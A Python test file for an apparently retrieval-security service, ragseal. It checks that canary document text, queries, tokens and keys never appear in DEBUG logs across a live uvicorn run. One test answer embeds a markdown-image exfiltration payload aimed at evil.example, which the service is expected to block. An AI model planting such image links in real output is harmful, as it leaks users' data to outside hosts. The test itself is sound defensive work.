"""Logs never carry content: a canary run through a real server at DEBUG.

A document with canary text is uploaded, retrieved with a canary query and
an answer quoting it is inspected, through uvicorn (so its access log runs
too) with every logger at DEBUG and the JSON handler of ``api._logging``
installed. No record, whoever emitted it (ragseal, presidio, unstructured,
spaCy, uvicorn), may hold the canary text, the query, the token or a key.
"""

from __future__ import annotations

import io
import json
import logging
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import uvicorn
from ragseal.api._app import create_app
from ragseal.api._auth import mint_token
from ragseal.api._limits import RateLimiter
from ragseal.api._logging import SAFE_EXTRA_KEYS, JsonFormatter, configure_logging

from .conftest import JWT_SECRET, World

ROOT = Path(__file__).resolve().parents[2]
DOC_CANARY = "Zorblattquix"
DOC_TEXT = (f"Project {DOC_CANARY} handbook. The {DOC_CANARY} vexillum ritual is held every "
            "Thursday in the east lab; bring the quokka calibration sheet.")
QUERY_CANARY = "Frumptiously"
ANSWER_CANARY = "Glimmerwhacks"


class _Everything(logging.Handler):
    """Keeps every record, and the JSON line the ragseal formatter makes of it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []
        self.lines: list[str] = []
        self._json = JsonFormatter()

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)
        self.lines.append(self._json.format(record))


@pytest.fixture
def captured() -> Iterator[_Everything]:
    handler = _Everything()
    root = logging.getLogger()
    old_level = root.level
    stream = io.StringIO()
    configure_logging(logging.DEBUG, stream=stream)
    root.addHandler(handler)
    try:
        yield handler
    finally:
        root.removeHandler(handler)
        for h in list(root.handlers):
            if getattr(h, "_ragseal_handler", False):
                root.removeHandler(h)
        root.setLevel(old_level)


def _serve(app: object) -> tuple[uvicorn.Server, threading.Thread, int]:
    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_config=None,  # type: ignore[arg-type]
                            access_log=True, lifespan="on")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started:
        assert time.monotonic() < deadline, "server did not start"
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    return server, thread, port


def _record_text(record: logging.LogRecord) -> str:
    parts = [str(record.msg), record.getMessage()]
    parts.extend(repr(v) for v in vars(record).values())
    return "\n".join(parts)


def test_when_full_run_at_debug_then_no_canary_in_any_log(
    world: World, captured: _Everything
) -> None:
    app = create_app(world.settings, world.services)
    token = mint_token(JWT_SECRET, sub="canary-ingestor@acme.example", tenant="acme",
                       groups=["all-staff"], roles=["ingestor", "legal"])
    headers = {"Authorization": f"Bearer {token}"}
    server, thread, port = _serve(app)
    try:
        app.state.rate_limiter = RateLimiter(0)  # type: ignore[attr-defined]
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as c:
            r = c.post("/v1/documents", headers=headers,
                       files={"file": ("notes.txt", DOC_TEXT.encode(), "text/plain")},
                       data={"acl": json.dumps({"groups": ["all-staff"], "level": "internal"})})
            assert r.status_code == 201, r.text
            doc_id = r.json()["doc_id"]
            r = c.post("/v1/retrieve", headers=headers,
                       json={"query": f"{QUERY_CANARY} what is the {DOC_CANARY} ritual?",
                             "top_k": 3})
            assert r.status_code == 200 and DOC_CANARY in r.text  # it really went through
            rid = r.json()["retrieval_id"]
            r = c.post("/v1/inspect", headers=headers, json={
                "answer": f"{ANSWER_CANARY}: the {DOC_CANARY} ritual, call 555-867-5309.",
                "retrieval_id": rid})
            assert r.status_code == 200
            # Inspect's other paths: pseudonyms, an exfiltration image, a quoted passage.
            r = c.post("/v1/retrieve", headers=headers, json={
                "query": f"{QUERY_CANARY} {DOC_CANARY} ritual", "pseudonymize": True})
            assert r.status_code == 200
            r = c.post("/v1/inspect", headers=headers, json={
                "answer": f"{ANSWER_CANARY} ![x](https://evil.example/{ANSWER_CANARY}.png) "
                          f"{DOC_TEXT}", "retrieval_id": r.json()["retrieval_id"]})
            assert r.status_code == 200 and r.json()["verdict"] == "block"
            assert c.post("/v1/retrieve", headers={"Authorization": "Bearer " + token[:-4]},
                          json={"query": QUERY_CANARY}).status_code == 401
            assert c.post("/v1/retrieve", headers=headers,
                          json={"query": QUERY_CANARY, "bogus": DOC_CANARY}).status_code == 422
            assert c.delete(f"/v1/documents/{doc_id}", headers=headers).status_code == 204
    finally:
        server.should_exit = True
        thread.join(timeout=30)

    secrets = {
        "document text": DOC_CANARY,
        "query text": QUERY_CANARY,
        "answer text": ANSWER_CANARY,
        "token": token,
        "token signature": token.rsplit(".", 1)[1],
        "jwt secret": JWT_SECRET,
    }
    master = world.services.settings.master_key
    if master is not None:
        secrets["master key"] = master.get_secret_value()
    loggers = {r.name.split(".")[0] for r in captured.records}
    assert {"ragseal", "uvicorn"} <= loggers, loggers  # the capture saw ragseal and uvicorn
    assert any(r.name == "uvicorn.access" for r in captured.records)
    for record, line in zip(captured.records, captured.lines, strict=True):
        text = _record_text(record) + "\n" + line
        for what, value in secrets.items():
            assert value not in text, f"{what} in a log record of {record.name!r}"


def test_when_record_has_unlisted_extra_then_formatter_drops_it() -> None:
    record = logging.makeLogRecord({
        "name": "x", "levelno": logging.INFO, "levelname": "INFO", "msg": "ingested",
        "doc_id": "d1", "chunks": 3, "text": DOC_CANARY, "query": QUERY_CANARY,
        "entities": {"PERSON", "US_SSN"}, "ms": 1.5, "path": object()})
    entry = json.loads(JsonFormatter().format(record))
    assert entry["doc_id"] == "d1" and entry["chunks"] == 3 and entry["ms"] == 1.5
    assert entry["entities"] == ["PERSON", "US_SSN"] and entry["path"] == "object"
    assert {"time", "level", "logger", "message"} <= set(entry)
    assert "text" not in entry and "query" not in entry
    assert "text" not in SAFE_EXTRA_KEYS and "query" not in SAFE_EXTRA_KEYS


def test_when_exception_logged_then_type_and_frames_but_not_message() -> None:
    try:
        raise ValueError(f"could not parse {DOC_CANARY}")
    except ValueError:
        record = logging.getLogger("x").makeRecord(
            "x", logging.ERROR, __file__, 1, "failed", (), exc_info=__import__("sys").exc_info())
    line = JsonFormatter().format(record)
    entry = json.loads(line)
    assert entry["exc_type"] == "ValueError" and "test_log_canary.py" in entry["traceback"]
    assert DOC_CANARY not in line.replace('raise ValueError(f"could not parse {DOC_CANARY}")', "")


def test_when_configured_twice_then_one_json_handler() -> None:
    root = logging.getLogger()
    stream = io.StringIO()
    try:
        configure_logging(logging.INFO, stream=stream)
        configure_logging(logging.INFO, stream=stream)
        ours = [h for h in root.handlers if getattr(h, "_ragseal_handler", False)]
        assert len(ours) == 1
        logging.getLogger("ragseal.api.test").info("hello", extra={"count": 2, "text": DOC_CANARY})
        entry = json.loads(stream.getvalue().strip().splitlines()[-1])
        assert entry["message"] == "hello" and entry["count"] == 2 and "text" not in entry
        assert logging.getLogger("uvicorn.access").propagate
    finally:
        for h in list(root.handlers):
            if getattr(h, "_ragseal_handler", False):
                root.removeHandler(h)


def test_when_packages_imported_then_libraries_attach_no_handlers() -> None:
    offenders = []
    for package in ("api", "classification", "ingest", "retrieval", "store"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "_logging.py" and package == "api":
                continue
            source = path.read_text(encoding="utf-8")
            # Output handlers only: a temporary NullHandler guard (ingest/_embedder.py) is fine.
            if re.search(r"\.(basicConfig|dictConfig|fileConfig|StreamHandler|FileHandler)\(",
                         source):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
    for name, logger in logging.Logger.manager.loggerDict.items():
        if name.startswith("ragseal.") and isinstance(logger, logging.Logger):
            assert logger.handlers == [], name
